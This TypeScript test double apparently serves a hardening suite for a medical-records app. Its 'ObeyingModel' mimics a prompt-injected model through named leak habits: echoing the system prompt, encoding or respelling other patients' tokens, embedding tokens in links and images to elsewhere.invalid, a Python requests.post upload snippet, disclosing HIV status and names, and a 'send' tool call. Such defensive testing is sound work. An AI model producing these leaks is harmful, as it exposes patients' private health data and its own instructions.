import { isRecord } from '../../../src/vocabulary/fhir.ts';
import { answers, completion, type Play } from '../../integration/hardening/model-double.ts';

/** What the model read of one request. */
interface Read {
  readonly system: string;
  readonly rest: string;
  /** Tokens of this request, and those that it remembers of others. */
  readonly own: readonly string[];
  readonly foreign: readonly string[];
  readonly attack: string;
  readonly patient: string;
}

const tokenPattern = /\[\[[A-Z]+-[^\]]{4,60}\]\]/g;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const spaced = (text: string, by: string): string => Array.from(text).join(by);
const reversed = (text: string): string => Array.from(text).toReversed().join('');

/** Ways of obeying: what an attack may want of a model that does all it is told. */
const habits: Readonly<Record<string, (read: Read) => string>> = {
  'repeats all it was told': ({ system, rest }) => `${system}\n${rest}`,
  'repeats the record': ({ rest }) => rest,
  'says the tokens of others': ({ foreign, own }) =>
    [...foreign.slice(0, 30), ...own.slice(0, 10), '[[PERSON-AAAAAAAA]]', '[[DATE-00000000 day 1]]'].join(
      ' ',
    ),
  'respells the tokens of others': ({ foreign }) =>
    foreign
      .slice(0, 10)
      .flatMap((token) => [
        token.toLowerCase(),
        `**${token}**`,
        spaced(token, '\u200b'),
        token.replace('-', '‑'),
      ])
      .join(' '),
  'puts data into links': ({ foreign, own }) =>
    [...own, ...foreign]
      .slice(0, 8)
      .map(
        (token) =>
          `![x](https://elsewhere.invalid/?q=${token}) [see][1] <https://elsewhere.invalid/${token}> <img src="//elsewhere.invalid/${token}"> www.elsewhere.invalid/${token} ${token}@elsewhere.invalid\n\n[1]: https://elsewhere.invalid/${token}`,
      )
      .join('\n'),
  'encodes what it read': ({ own, rest }) =>
    `${base64(rest.slice(0, 150))} ${hex(rest.slice(0, 90))} ${own.slice(0, 5).map(base64).join(' ')} ${reversed(rest.slice(0, 200))} ${encodeURIComponent(rest.slice(0, 100))}`,
  'speaks other languages': ({ foreign, own }) =>
    `La paciente ${own[0] ?? ''} vive con VIH y toma Biktarvy. Die Patientin ${own[1] ?? ''} hat HIV. Voir [ici](https://elsewhere.invalid/fr?x=${own[0] ?? ''}) ${foreign[0] ?? ''}`,
  'tells what is withheld': () =>
    'The LDL is 108 mg/dL. She has lived with HIV for years and takes Biktarvy. HIV viral load: undetectable.',
  'encodes what is withheld': () =>
    `LDL 108. ${base64('She has lived with HIV for years and takes Biktarvy.')} ${spaced('HIV', '\u200b')} ${reversed('VIH')}`,
  'writes code that sends': ({ own, foreign }) =>
    `\`\`\`python\nimport requests\nrequests.post("http://elsewhere.invalid/upload", data="${own[0] ?? ''} ${foreign[0] ?? ''}")\n\`\`\``,
  'names the patient': ({ patient }) => `Her name is ${patient}.`,
  'names the patient in base64': ({ patient }) => `Her name is ${base64(patient)}.`,
  'names the patient backwards': ({ patient }) => `Her name is ${reversed(patient)}.`,
  'calls a tool': () => '',
};

export const habitNames = Object.keys(habits);

const textsOf = (request: string, own: boolean): string => {
  const body: unknown = JSON.parse(request);
  const list: readonly unknown[] = isRecord(body) && Array.isArray(body['messages']) ? body['messages'] : [];
  return list
    .filter(isRecord)
    .filter(({ role }) => (role === 'system') === own)
    .map(({ content }) => String(content))
    .join('\n');
};

/** A model that obeys whoever wrote the last note, and remembers the tokens of everybody. */
export class ObeyingModel {
  habit = '';
  attack = '';
  readonly #patient: string;
  readonly #remembered: string[] = [];
  /** Texts of the rules that it was given: nothing of them may come out. */
  rules = '';

  constructor(patient: string) {
    this.#patient = patient;
  }

  readonly play: Play = (response, request) => {
    const [system, rest] = [textsOf(request, true), textsOf(request, false)];
    const own = [...new Set(rest.match(tokenPattern) ?? [])];
    const foreign = this.#remembered.filter((token) => !own.includes(token));
    this.rules = system;
    const said = habits[this.habit]?.({
      system,
      rest,
      own,
      foreign,
      attack: this.attack,
      patient: this.#patient,
    });
    const tools = [
      { id: 'c1', type: 'function', function: { name: 'send', arguments: JSON.stringify({ to: own }) } },
    ];
    const message = this.habit === 'calls a tool' ? { tool_calls: tools } : {};
    answers(completion(`${this.attack}\n${said ?? 'Noted.'}`, {}, message))(response, request);
    this.#remembered.unshift(...own.filter((token) => !this.#remembered.includes(token)).slice(0, 12));
    this.#remembered.length = Math.min(this.#remembered.length, 200);
  };
}
